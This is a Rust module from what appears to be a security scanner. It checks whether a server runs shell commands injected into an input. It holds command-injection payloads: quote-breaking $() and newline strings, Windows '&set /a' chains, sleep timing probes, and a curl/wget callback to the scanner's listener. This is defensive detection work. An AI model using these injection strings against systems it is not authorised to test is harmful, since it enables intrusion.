//! INJ-06: a command written into an input is run by the server.

use super::probe::{Probe, Said, probe_or_unknown, takes_text};
use super::timed::waits;
use crate::check::{Check, Family, Oracle, Scope, Tier};
use crate::context::Context;
use crate::danger::words;
use crate::oracle::computed::Product;
use crate::oracle::out_of_band::nobody_came;
use crate::step::Step;
use crate::tape::{Flow, Tape};
use avouch_model::reference::{Cwe, Owasp};
use avouch_model::severity::{Confidence, Severity};
use avouch_model::verdict::{Proof, Verdict};

/// INJ-06
pub(super) const CHECK: Check = Check {
    id: "INJ-06",
    name: "command-run",
    title: "A command written into an input is run by the server",
    family: Family::Inj,
    severity: Severity::Critical,
    confidence: Confidence::Confirmed,
    oracles: &[Oracle::Computed, Oracle::Timing, Oracle::OutOfBand],
    tier: Tier::Active,
    needs: &[],
    scope: Scope::Input,
    cwe: Cwe(78),
    owasp: &[Owasp::Api(8)],
    criteria: &["CC6.6"],
    page: include_str!("command_run.md"),
    applies: takes_text,
    run,
};

/// Words of inputs and paths behind which programs of the system are started.
const PLAUSIBLE: [&str; 52] = [
    "host",
    "hostname",
    "ip",
    "ping",
    "domain",
    "dns",
    "cmd",
    "command",
    "exec",
    "execute",
    "run",
    "shell",
    "sysinfo",
    "system",
    "script",
    "process",
    "tool",
    "arg",
    "args",
    "argument",
    "arguments",
    "param",
    "params",
    "parameter",
    "parameters",
    "option",
    "options",
    "flag",
    "flags",
    "file",
    "filename",
    "path",
    "dir",
    "directory",
    "folder",
    "disk",
    "traceroute",
    "trace",
    "lookup",
    "nslookup",
    "whois",
    "diagnostic",
    "diagnostics",
    "network",
    "interface",
    "convert",
    "conversion",
    "backup",
    "archive",
    "render",
    "branch",
    "repo",
];
/// LIMIT: milliseconds the server is given to come to the listener.
const WAIT_MS: u32 = 2_000;

/// How a command is brought to a shell.
#[derive(Clone, Copy, Debug)]
enum Way {
    /// For POSIX shells, whatever quotes the value stands in.
    AnyQuotes,
    /// On a line of its own, where signs are filtered.
    NewLine,
    /// For the command line of Windows.
    Windows,
}

impl Way {
    /// The value with a computation behind it; what the answer must hold.
    fn text(self, usual: &str, product: Product, around: &str) -> (String, String) {
        let (left, right) = (product.left, product.right);
        let echo = format!("echo {around}$(({left}*{right})){around}");
        let shown = format!("{around}{}{around}", product.value());
        match self {
            Self::AnyQuotes => (anywhere(usual, &echo), shown),
            Self::NewLine => (format!("{usual}\n{echo}\n"), shown),
            Self::Windows => {
                let set = format!("set /a {left}*{right}");
                (format!("{usual}&{set}&rem \"&{set}&rem "), product.value().to_string())
            }
        }
    }
}

/// A command that is run once at least, whether the value stands bare or in quotes of either kind.
fn anywhere(usual: &str, command: &str) -> String {
    format!("{usual}$({command});{command} #'|{command} #\"|{command} #")
}

/// The same, run exactly once.
fn anywhere_once(usual: &str, command: &str) -> String {
    format!("{usual}$({command}) #'|{command} #")
}

fn is_plausible(ctx: &Context<'_>) -> bool {
    let name = ctx.input.map(|input| words(input.name())).unwrap_or_default();
    let path = ctx.operation.map(|operation| words(&operation.path)).unwrap_or_default();
    name.iter().chain(&path).any(|word| PLAUSIBLE.contains(&word.as_str()))
}

fn run(ctx: &Context<'_>, tape: &mut Tape<'_>) -> Flow {
    let probe = probe_or_unknown(ctx)?;
    let usual = probe.value.clone().unwrap_or_else(|| ctx.nonces.word("value", 6));
    let plausible = is_plausible(ctx);
    let ways: &[Way] =
        if plausible { &[Way::AnyQuotes, Way::NewLine, Way::Windows] } else { &[Way::AnyQuotes] };
    for (n, way) in ways.iter().enumerate() {
        if let Some(proof) = computes(ctx, &probe, tape, &usual, (*way, n))? {
            return Ok(Verdict::Fail(Box::new(proof)));
        }
    }
    if plausible {
        if let Some(proof) = comes_to_us(ctx, &probe, tape, &usual)? {
            return Ok(Verdict::Fail(Box::new(proof)));
        }
        let waited = waits(&probe, tape, |s| anywhere_once(&usual, &format!("sleep {s}")))?;
        if let Some(waited) = waited {
            let label = probe.label();
            let summary = format!(
                "{} wrote `sleep` into {label}, and the answers waited as long as it said",
                probe.who
            );
            return Ok(Verdict::fail(
                Proof::new(Severity::Critical, Confidence::Confirmed, summary)
                    .because(format!("asked for and taken: {}", waited.times))
                    .because("the times lie on a line of slope one, long and short in turn")
                    .about(label)
                    .shown_by(waited.shown_by),
            ));
        }
    }
    Ok(probe.nothing_found())
}

/// O9: the server's shell works out a product.
fn computes(
    ctx: &Context<'_>,
    probe: &Probe<'_>,
    tape: &mut Tape<'_>,
    usual: &str,
    (way, n): (Way, usize),
) -> Result<Option<Proof>, Step> {
    let ask = |tape: &mut _, round: &str| -> Result<(Said<'_>, bool), Step> {
        let product = Product::new(&ctx.nonces, &format!("{n} {round}"));
        let around = ctx.nonces.word(&format!("{n} {round} around"), 4);
        let (text, shown) = way.text(usual, product, &around);
        let said = probe.ask(tape, &text)?;
        let there = said.reply.body.contains(&shown);
        Ok((said, there))
    };
    let (first, there) = ask(tape, "first")?;
    if !there {
        return Ok(None);
    }
    let (second, again) = ask(tape, "second")?;
    // The same sum without a shell's signs: who works that out is a calculator, not a shell.
    let product = Product::new(&ctx.nonces, &format!("{n} plain"));
    let plain = probe.ask(tape, &format!("{}*{}", product.left, product.right))?;
    if !again || product.is_in(&plain.reply.body) {
        return Ok(None);
    }
    let label = probe.label();
    let summary =
        format!("{} wrote a command into {label}, and the answer held its output", probe.who);
    let proof = Proof::new(Severity::Critical, Confidence::Confirmed, summary)
        .because("the answer held the product of two random numbers, which was not sent")
        .because("with two other numbers it held their product")
        .because("without a shell's signs around them nothing was worked out")
        .about(label)
        .shown_by([first.reply.index, second.reply.index, plain.reply.index]);
    Ok(Some(proof))
}

/// O10: the server's shell fetches an address that only a shell can read out of the value.
fn comes_to_us(
    ctx: &Context<'_>,
    probe: &Probe<'_>,
    tape: &mut Tape<'_>,
    usual: &str,
) -> Result<Option<Proof>, Step> {
    let Some(listener) = ctx.out_of_band else { return Ok(None) };
    let product = Product::new(&ctx.nonces, "address");
    let stem = ctx.nonces.hex("stem", 16);
    let token = format!("{stem}{}", product.value());
    nobody_came(tape, &token)?;
    let address = listener.url(&format!("{stem}$(({}*{}))", product.left, product.right));
    let command = format!("curl -s -m 3 {address}||wget -q -T 3 -O - {address}");
    let said = probe.ask(tape, &anywhere(usual, &command))?;
    if tape.await_hit(&token, WAIT_MS)?.is_empty() {
        return Ok(None);
    }
    let label = probe.label();
    let summary =
        format!("{} wrote a command into {label}, and the server came to our listener", probe.who);
    let proof = Proof::new(Severity::Critical, Confidence::Confirmed, summary)
        .because("the address it came to holds a product that only a shell could have worked out")
        .because("nobody had come to that address before the request was sent")
        .about(label)
        .shown_by([said.reply.index]);
    Ok(Some(proof))
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::process::Command;

    #[test]
    fn a_shell_runs_it_in_whatever_quotes_it_stands() {
        let product = Product { left: 4001, right: 3001 };
        for line in ["true V", "true 'V'", "true \"V\"", "true -x V -y"] {
            let (text, shown) = Way::AnyQuotes.text("lamp", product, "abcd");
            let script = line.replace('V', &text);
            let output = Command::new("sh").args(["-c", &script]).output().unwrap();
            let printed = String::from_utf8_lossy(&output.stdout).into_owned();
            assert!(printed.contains(&shown), "{script}: {printed}");
            assert!(!text.contains(&shown));
        }
    }
}
